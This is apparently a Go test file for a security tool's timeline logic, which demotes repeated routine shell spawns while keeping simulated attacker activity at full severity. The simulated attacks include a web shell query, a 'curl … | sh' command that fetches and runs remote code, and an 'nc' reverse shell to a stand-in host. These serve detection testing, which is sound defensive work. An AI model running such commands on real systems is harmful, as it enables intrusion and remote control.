package timeline

import (
	"fmt"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

func TestCommandTemplate(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"numbers", []string{"/bin/sh", "-c", "/usr/local/bin/mklabel 1002 pdf"}, "/bin/sh -c /usr/local/bin/mklabel <n> pdf"},
		{"file names keep dir and extension", []string{"sh", "-c", "convert /srv/media/MUG-1.png -resize 64x64 /srv/cache/thumb-MUG-1.png"},
			"sh -c convert /srv/media/<file>.png -resize <n>x<n> /srv/cache/<file>.png"},
		{"quoted file names", []string{"sh", "-c", "convert '/var/www/up/summer.png' '/var/www/up/thumb-summer.png'"},
			"sh -c convert '/var/www/up/<file>.png' '/var/www/up/<file>.png'"},
		{"temp dirs", []string{"php", "/tmp/phpA1b2C3", "--out=/var/tmp/x91.json"}, "php /tmp/<tmp> --out=/var/tmp/<tmp>.json"},
		{"hashes and uuids", []string{"cache-warm", "3f2a9c1d0be47a55", "123e4567-e89b-12d3-a456-426614174000"}, "cache-warm <hex> <uuid>"},
		{"addresses are kept", []string{"ping", "-c", "1", "127.0.0.1"}, "ping -c <n> 127.0.0.1"},
		{"urls keep their host", []string{"curl", "-s", "http://198.51.100.7:8080/x"}, "curl -s http://198.51.100.7:<n>/x"},
		{"a program keeps its name", []string{"sh", "-c", "/opt/app/bin/render.py 7; /opt/app/bin/notify.sh"}, "sh -c /opt/app/bin/render.py <n>; /opt/app/bin/notify.sh"},
		{"different commands differ", []string{"sh", "-c", "id"}, "sh -c id"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := commandTemplate(tc.args); got != tc.want {
				t.Errorf("commandTemplate(%q) = %q, want %q", tc.args, got, tc.want)
			}
		})
	}
}

// routineScene: php-fpm's workers run a health check (`sh -c date …`)
// every 10 s from 1 s to 291 s, each run with a medium "shell spawn"
// finding, as the application does all day. It returns the findings.
func routineScene(s *sim) []*detect.Finding {
	s.webServer()
	var out []*detect.Finding
	for i := 0; i < 30; i++ {
		sh := shellOf(1000+i, worker1, "/var/www/html")
		out = append(out, s.find(s.exec(float64(1+10*i), sh, "sh", "-c", "date -u +%s"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
	}
	s.touch(300, worker1) // the log goes on to 300 s
	return out
}

func routineOf(r *Result, f *detect.Finding) *Routine {
	for _, g := range r.Routine {
		for _, d := range g.Findings {
			if d.Event == f.Event && d.RuleID == f.RuleID {
				return g
			}
		}
	}
	return nil
}

// severityIn is f's severity as the Result reports it (a demoted copy
// replaces it).
func severityIn(t *testing.T, r *Result, f *detect.Finding) detect.Severity {
	t.Helper()
	for _, g := range r.Findings {
		if g.Event == f.Event && g.RuleID == f.RuleID {
			return g.Severity
		}
	}
	t.Fatalf("finding %s on serial %d is gone from the result", f.Title, f.Event.Serial)
	return 0
}

func TestRoutineDemotesRegularCommand(t *testing.T) {
	s := newSim(t, Options{})
	health := routineScene(s)
	r := s.build()
	if len(r.Routine) != 1 {
		t.Fatalf("routine templates = %d, want 1: %+v", len(r.Routine), r.Routine)
	}
	g := r.Routine[0]
	if g.Template != "sh -c date -u +%s" || g.Count != 30 || len(g.Findings) != 30 || g.Server != "php-fpm8.2 pid 100" {
		t.Errorf("routine = %q count %d findings %d server %q", g.Template, g.Count, len(g.Findings), g.Server)
	}
	for _, f := range health {
		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
			t.Errorf("health check at %s is %s, want low", f.Time, sev)
		}
	}
	if len(r.Findings) != len(health) {
		t.Errorf("%d findings in the result, want %d: demoted, never deleted", len(r.Findings), len(health))
	}
	if health[0].Severity != detect.SeverityMedium {
		t.Error("Build changed a finding it was given")
	}
}

// TestRoutineAttackerRepeatingOneCommand: an attacker who runs `id` fifty
// times must not become routine, however the repetitions are spread.
func TestRoutineAttackerRepeatingOneCommand(t *testing.T) {
	const shell = "/var/www/html/uploads/x.php"
	up := shellOf(0, worker1, "/var/www/html/uploads")
	for _, tc := range []struct {
		name  string
		scene func(s *sim) []*detect.Finding // the attacker's `id` findings
	}{
		{"in a burst after the upload", func(s *sim) []*detect.Finding {
			s.find(s.write(100, worker1, parser.KindFileWrite, shell), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				ids = append(ids, s.find(s.exec(101+float64(i)*0.1, child(2000+i, up), "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation"))
			}
			return ids
		}},
		{"spread over the log after the upload", func(s *sim) []*detect.Finding {
			s.find(s.write(20, worker1, parser.KindFileWrite, shell), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				ids = append(ids, s.find(s.exec(22+float64(i)*5.5, child(2000+i, up), "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation"))
			}
			return ids
		}},
		{"spread over the whole log through a web shell that predates it", func(s *sim) []*detect.Finding {
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				at := 2 + float64(i)*5.9
				s.http(at, "GET", "/uploads/x.php?cmd=id", 200, "203.0.113.5", "curl/8.0")
				ids = append(ids, s.find(s.exec(at, child(2000+i, up), "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
			}
			return ids
		}},
		{"spread over the whole log, each run followed by a flagged act", func(s *sim) []*detect.Finding {
			var ids []*detect.Finding
			for i := 0; i < 50; i++ {
				at := 2 + float64(i)*5.9
				sh := child(2000+i, up)
				ids = append(ids, s.find(s.exec(at, sh, "sh", "-c", "id; curl -s http://198.51.100.9/k | sh"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn"))
				s.find(s.exec(at+0.01, child(3000+i, sh), "curl", "-s", "http://198.51.100.9/k"), detect.StageSuspiciousSpawn, detect.SeverityHigh, fmt.Sprint("Tool Download ", i))
			}
			return ids
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newSim(t, Options{})
			routineScene(s)
			ids := tc.scene(s)
			r := s.build()
			for _, f := range ids {
				if g := routineOf(r, f); g != nil {
					t.Fatalf("the attacker's %q at %s became routine: %s", f.Event.Args, f.Time, g.Why)
				}
				if sev := severityIn(t, r, f); sev != f.Severity {
					t.Fatalf("the attacker's %q at %s is %s, was %s", f.Event.Args, f.Time, sev, f.Severity)
				}
			}
		})
	}
}

// TestRoutineNotWhenFlaggedActFollows: one run of a routine template whose
// child is flagged keeps its severity; the others are demoted.
func TestRoutineNotWhenFlaggedActFollows(t *testing.T) {
	s := newSim(t, Options{})
	health := routineScene(s)
	odd := health[25] // late: the runs before it establish the routine
	s.find(s.exec(odd.Time.Sub(s.t0).Seconds()+0.01, child(5000, who{pid: odd.Event.PID, ppid: worker1.pid, uid: 33, cwd: "/var/www/html"}), "nc", "198.51.100.9", "4444"),
		detect.StageCommandAndControl, detect.SeverityCritical, "Reverse Shell")
	r := s.build()
	if sev := severityIn(t, r, odd); sev != detect.SeverityMedium {
		t.Errorf("the run a reverse shell followed is %s, want medium", sev)
	}
	if sev := severityIn(t, r, health[3]); sev != detect.SeverityLow {
		t.Errorf("an earlier run is %s, want low", sev)
	}
}
